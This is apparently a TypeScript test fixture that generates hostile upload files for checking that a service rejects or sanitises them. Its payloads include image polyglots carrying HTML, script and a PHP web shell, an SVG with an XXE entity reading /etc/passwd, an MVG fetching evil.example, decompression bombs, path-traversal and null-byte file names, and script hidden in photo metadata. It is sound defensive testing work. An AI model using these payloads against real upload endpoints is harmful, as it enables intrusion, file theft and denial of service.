import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { waveOf } from './waves.ts';

/** A file as an attacker, or a phone, would send it. */
export interface HostileFile {
  /** What it is. */
  title: string;
  /** The name and type that it claims. */
  fileName: string;
  type: string;
  make: () => Promise<Buffer> | Buffer;
}

/** Part of everything that must not be served again. */
export const mark = 'evil-mark-7f3a';
const code = `<script>/*${mark}*/alert(document.cookie)</script>`;
const html = Buffer.from(`<!doctype html><html><body>${code}</body></html>`);
const zip = Buffer.concat([Buffer.from(`PK\u0003\u0004${mark}PK\u0005\u0006`), Buffer.alloc(18)]);

/** Coordinates, names and comments, as a camera writes them. */
const exif = {
  IFD0: { Make: mark, Copyright: mark, ImageDescription: code },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '59/1 54/1 0/1', GPSLongitude: '10/1 45/1 0/1' },
};

const plain = (width = 200, height = 120): Sharp =>
  sharp({ create: { width, height, channels: 3, background: '#0f6a5f' } });
const kinds = {
  jpeg: () => plain().jpeg().toBuffer(),
  png: () => plain().png().toBuffer(),
  gif: () => plain().gif().toBuffer(),
  webp: () => plain().webp().toBuffer(),
} as const;
type Kind = keyof typeof kinds;
const each = ['jpeg', 'png', 'gif', 'webp'] satisfies Kind[];

const file = (title: string, fileName: string, make: HostileFile['make']): HostileFile => ({
  title,
  fileName,
  type: fileName.endsWith('.pdf') ? 'application/pdf' : 'image/jpeg',
  make,
});

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG of one bit a pixel, with the given number of rows of data. */
function largePng(side: number, rows: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(1, 8);
  const data = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(side / 8))), { level: 1 });
  return Buffer.concat([
    signature,
    pngChunk('IHDR', header),
    pngChunk('IDAT', data),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A whole PNG with a further chunk behind its header. */
async function pngWith(type: string, data: Buffer): Promise<Buffer> {
  const whole = await kinds.png();
  return Buffer.concat([whole.subarray(0, 33), pngChunk(type, data), whole.subarray(33)]);
}

/** A whole JPEG with a further segment behind its first two bytes. */
async function jpegWith(marker: number, data: Buffer): Promise<Buffer> {
  const whole = await kinds.jpeg();
  const head = Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff]);
  return Buffer.concat([whole.subarray(0, 2), head, data, whole.subarray(2)]);
}

/** A JPEG whose frame claims other dimensions than its data have. */
async function jpegOf(side: number): Promise<Buffer> {
  const whole = Buffer.from(await kinds.jpeg());
  const at = whole.indexOf(Buffer.from([0xff, 0xc0]));
  whole.writeUInt16BE(side, at + 5);
  whole.writeUInt16BE(side, at + 7);
  return whole;
}

/** A GIF whose screen is larger than any. */
async function gifOf(side: number): Promise<Buffer> {
  const whole = Buffer.from(await kinds.gif());
  whole.writeUInt16LE(side, 6);
  whole.writeUInt16LE(side, 8);
  return whole;
}

const pdf = (content: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n%${mark}\n`),
    Buffer.from(content),
    Buffer.from('\n%%EOF\n'),
  ]);

/** A voice message with a further part before its samples, and HTML behind them. */
function waveWith(content: Buffer): Buffer {
  const whole = waveOf(1);
  const part = Buffer.concat([Buffer.from('LIST'), Buffer.alloc(4), content]);
  part.writeUInt32LE(content.length, 4);
  const padding = Buffer.alloc(content.length % 2);
  return Buffer.concat([whole.subarray(0, 36), part, padding, whole.subarray(36), html]);
}

const polyglots = each.flatMap((kind) =>
  Object.entries({
    HTML: html,
    'an archive': zip,
    PHP: Buffer.from(`<?php /*${mark}*/ system($_GET[0]);`),
    'a script': Buffer.from(`*/=1;/*${mark}*/alert(1)//<script>`),
    'a PDF': pdf('<script>'),
  }).map(([tail, bytes]) =>
    file(`a ${kind} with ${tail} behind it`, `bilde.${kind}`, async () =>
      Buffer.concat([await kinds[kind](), bytes]),
    ),
  ),
);

const xml = `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${code}</svg>`;
const texts: HostileFile[] = (
  [
    ['an SVG', 'logo.svg', svg],
    ['an SVG with the name of a picture', 'logo.png', svg],
    ['an SVG that reads a file', 'logo.jpg', `${xml}<svg>&x;</svg>`],
    ['an SVG after a comment', 'logo.webp', `<!-- ${' '.repeat(5000)} -->${svg}`],
    ['HTML', 'side.html', html],
    ['HTML with the name of a paper', 'attest.pdf', html],
    ['HTML after a mark of byte order', 'bilde.png', `\ufeff${html.toString()}`],
    ['HTML after a kilobyte of blanks', 'bilde.gif', `${' '.repeat(1024)}${html.toString()}`],
    ['HTML that begins like a GIF', 'bilde.gif', `GIF89a/*${code}*/=1;`],
    ['a script that begins like a bitmap', 'bilde.bmp', `BM=1;/*${mark}*/alert(1)`],
    ['PHP', 'bilde.php', `<?php /*${mark}*/ phpinfo();`],
    ['settings of a web server', '.htaccess', `AddType text/html .webp #${mark}`],
    ['a program of a shell', 'bilde.jpg', `#!/bin/sh\n# ${mark}\nid`],
    ['PostScript that runs a program', 'bilde.jpg', `%!PS\n%%pipe%id ${mark}`],
    [
      'a drawing that fetches an address',
      'bilde.mvg',
      `push graphic-context\nimage over 0,0 0,0 'https://evil.example/${mark}'`,
    ],
  ] satisfies [string, string, string | Buffer][]
).map(([title, name, bytes]) => file(title, name, () => Buffer.from(bytes)));

const numbered = (bytes: number[], rest = html): Buffer =>
  Buffer.concat([Buffer.from(bytes), rest]);
const binaries: HostileFile[] = [
  file('the first bytes of a JPEG before HTML', 'a.jpg', () => numbered([0xff, 0xd8, 0xff, 0xe0])),
  file('the first bytes of a PNG before HTML', 'a.png', () => numbered([...signature])),
  file('a program', 'a.jpg', () => numbered([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])),
  file('a program of Windows', 'a.jpg', () => numbered([0x4d, 0x5a, 0x90, 0])),
  file('a Flash film', 'a.jpg', () => numbered([0x43, 0x57, 0x53, 9])),
  file('a packed SVG', 'a.svgz', () => gzipSync(svg)),
  file('an icon', 'a.ico', () => numbered([0, 0, 1, 0, 1, 0])),
  file('a TIFF', 'a.tiff', () => plain().tiff().toBuffer()),
  file('an archive', 'a.zip', () => zip),
];

const bombs: HostileFile[] = [
  file('400 million pixels', 'a.png', () => largePng(20_000, 20_000)),
  file('3.6 thousand million pixels', 'a.png', () => largePng(60_000, 1)),
  file('a JPEG that claims 4 thousand million pixels', 'a.jpg', () => jpegOf(65_500)),
  file('a JPEG that claims more than it has', 'a.jpg', () => jpegOf(5000)),
  file('a GIF with a screen of 4 thousand million pixels', 'a.gif', () => gifOf(65_535)),
  file('a PNG with 60 MB of packed remarks', 'a.png', () =>
    pngWith('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(60e6, mark))])),
  ),
  file('a PNG with a packed profile of 60 MB', 'a.png', () =>
    pngWith('iCCP', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(60e6))])),
  ),
  file('60 MB of nothing, packed', 'a.gz', () => gzipSync(Buffer.alloc(60e6))),
  file('a PDF with a packed page of 60 MB', 'a.pdf', () =>
    pdf(
      Buffer.concat([
        Buffer.from('1 0 obj<</Filter/FlateDecode>>stream\n'),
        deflateSync(Buffer.alloc(60e6)),
      ]),
    ),
  ),
  file('6 MB of text behind a picture', 'a.jpg', async () =>
    Buffer.concat([await kinds.jpeg(), Buffer.alloc(6 * 1024 * 1024, mark)]),
  ),
];

const cut: HostileFile[] = [
  ...each.map((kind) =>
    file(`half of a ${kind}`, `halv.${kind}`, async () => {
      const tiled = plain(600, 400).composite([{ input: await kinds.png(), tile: true }]);
      const whole = await tiled.toFormat(kind).toBuffer();
      return whole.subarray(0, Math.floor(whole.length / 2));
    }),
  ),
  file('nothing', 'tom.jpg', () => Buffer.alloc(0)),
  file('one byte', 'en.jpg', () => Buffer.from([0xff])),
  file('a PDF without its end', 'attest.pdf', () => Buffer.from(`%PDF-1.7\n${mark}`)),
  file('a PDF that acts when it opens', 'attest.pdf', () =>
    pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  ),
];

const photographed: HostileFile[] = [
  ...(['jpeg', 'png', 'webp'] as const).map((kind) =>
    file(`a ${kind} that says where it was taken`, `IMG_0001.${kind}`, () =>
      plain().withExif(exif)[kind]().toBuffer(),
    ),
  ),
  file('a JPEG with a packet of XMP', 'a.jpg', () =>
    jpegWith(0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${code}</x:xmpmeta>`)),
  ),
  file('a JPEG with words of IPTC', 'a.jpg', () =>
    jpegWith(0xed, Buffer.from(`Photoshop 3.0\x008BIM\x04\x04\0\0\0\0${code}`)),
  ),
  file('a JPEG with a remark', 'a.jpg', () => jpegWith(0xfe, Buffer.from(code))),
  file('a PNG with a remark', 'a.png', () => pngWith('tEXt', Buffer.from(`Comment\0${code}`))),
  file('a JPEG in other colours', 'a.jpg', () => plain().withIccProfile('p3').jpeg().toBuffer()),
  file('a JPEG that lies on its side', 'a.jpg', () =>
    plain().withMetadata({ orientation: 6 }).jpeg().toBuffer(),
  ),
];

const names = [
  '../../../../etc/passwd.jpg',
  String.raw`..\..\windows\system.ini.jpg`,
  '/etc/cron.d/a.jpg',
  'a.php.jpg',
  'a.jpg%00.php',
  'bilde.jpg;.html',
  `${'x'.repeat(500)}.jpg`,
  'CON',
  'gpj.\u202eexe.jpg',
  `"><img src=x onerror=alert(1)>${mark}.jpg`,
].map((name) => file(`a picture named ${name.slice(0, 40)}`, name, kinds.jpeg));

export const hostileFiles: readonly HostileFile[] = [
  ...polyglots,
  ...texts,
  ...binaries,
  ...bombs,
  ...cut,
  ...photographed,
  ...names,
  file('a recording with HTML beside its samples', 'melding.wav', () => waveWith(html)),
];
